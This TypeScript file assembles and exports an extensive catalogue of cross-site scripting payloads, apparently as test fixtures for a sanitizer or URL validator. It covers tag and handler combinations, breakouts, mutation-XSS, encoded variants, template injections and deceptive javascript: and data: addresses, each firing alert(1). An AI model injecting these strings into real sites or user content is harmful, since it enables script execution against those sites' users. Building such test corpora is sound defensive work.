/** Says that it ran; whoever watches the browser sees the dialog. */
const RUN = 'alert(1)';

const HANDLERS = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onanimationstart'];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'iframe src=x',
  'object data=x',
  'select autofocus',
  'textarea autofocus',
  'embed src=x',
];

/** Every tag that comes alive by itself with every handler that does. */
const TAGS_WITH_HANDLERS = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${RUN}>`));

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<script >${RUN}</script >`,
  `<script\u00a0>${RUN}</script>`,
  '<script src=data:,alert(1)></script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script type=module>alert(1)</script>',
  '<script>alert`1`</script>',
  '<script>window["al"+"ert"](1)</script>',
  '<script>eval(atob("YWxlcnQoMSk="))</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href=data:,alert(1) />',
  '<svg><script>alert&#40;1)</script>',
  '<math><script>alert(1)</script></math>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><script>alert(1)</script>">',
  '<xmp><script>alert(1)</script>',
  '<plaintext><script>alert(1)</script>',
];

/** Out of whatever surrounds them. */
const BREAKOUTS = [
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '/>',
  '-->',
  '--!>',
  ']]>',
  '*/',
  '</title>',
  '</style>',
  '</textarea>',
  '</script>',
  '</noscript>',
  '</template>',
  '</svg>',
  '</summary></details>',
  '</a>',
].flatMap((way) => [`${way}<script>${RUN}</script>`, `${way}<img src=x onerror=${RUN}>`]);

const ATTRIBUTES = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '` onfocus=`alert(1)` autofocus x=`',
  '" style="animation-name:x" onanimationstart="alert(1)',
  '" srcdoc="<script>alert(1)</script>',
  '" href="javascript:alert(1)',
  '" formaction="javascript:alert(1)" x="',
  '" srcset="x" onerror="alert(1)',
];

const FRAMES = [
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src="javascript:alert(1)">',
  '<iframe src="data:text/html,<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button autofocus>x',
  '<button formaction=javascript:alert(1)>x',
  '<a href="javascript:alert(1)" autofocus>x</a>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="data:,*{x:expression(alert(1))}">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><foreignObject><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<marquee onstart=alert(1)>x',
  '<video><source onerror=alert(1)>',
  '<picture><source srcset=x><img onerror=alert(1) src=x>',
];

/** What parsers make of something else than what is written. */
const MUTATIONS = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a id="\ufffd"><img src=x onerror=alert(1)>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<x/><title>&lt;/title>&lt;img src onerror=alert(1)>',
  '<listing>&lt;img src onerror=alert(1)&gt;</listing>',
];

const ENCODED = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%253Cscript%253Ealert(1)%253C/script%253E',
  String.raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
  String.raw`\x3cscript\x3ealert(1)\x3c/script\x3e`,
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜script＞alert(1)＜/script＞',
  '‹img src=x onerror=alert(1)›',
  '\u202e>tpircs/<)1(trela>tpircs<',
  '<\u200bscript>alert(1)</\u200bscript>',
  '<img src=x onerror\u2028=alert(1)>',
];

/** For templates and message formats that would take them for their own. */
const TEMPLATES = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{0, plural, one {<script>alert(1)</script>} other {x}}',
  '<0><script>alert(1)</script></0>',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  '{"type":"script","children":"alert(1)"}',
  '__proto__[innerHTML]=<img src=x onerror=alert(1)>',
  '<!--page--><script>alert(1)</script>',
  '<!--head--><script>alert(1)</script>',
  '<!--script-->',
  '/*style*/</style><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '=HYPERLINK("javascript:alert(1)","x")',
];

/** Addresses that would run something, or would be another one than they seem. */
export const ADDRESSES: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'javascript\u200b:alert(1)',
  'java%0ascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'javascript:alert(1)//https://example.com',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:alert(1)',
  'blob:https://example.com/x',
  'filesystem:https://example.com/x',
  'view-source:javascript:alert(1)',
  '//example.com/x.js',
  '/\\example.com',
  'http://example.com/',
  'https:javascript:alert(1)',
  'https://example.com/"onmouseover="alert(1)',
  "https://example.com/'><script>alert(1)</script>",
  'https://example.com/?x=<script>alert(1)</script>',
  'https://example.com/#"><img src=x onerror=alert(1)>',
  'https://user:alert(1)@example.com/',
  'https://www.youtube.com/watch?v="><script>alert(1)</script>',
  'https://www.youtube.com/embed/javascript:alert(1)',
  'https://youtu.be/"onload="al',
  'https://player.vimeo.com/video/1"onload="alert(1)',
  'https://www.youtube.com.example.com/embed/aqz-KE-bpKQ',
];

/** Texts that would run a script wherever a page takes them for more than text. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...TAGS_WITH_HANDLERS,
  ...BREAKOUTS,
  ...ATTRIBUTES,
  ...FRAMES,
  ...MUTATIONS,
  ...ENCODED,
  ...TEMPLATES,
  ...ADDRESSES,
];
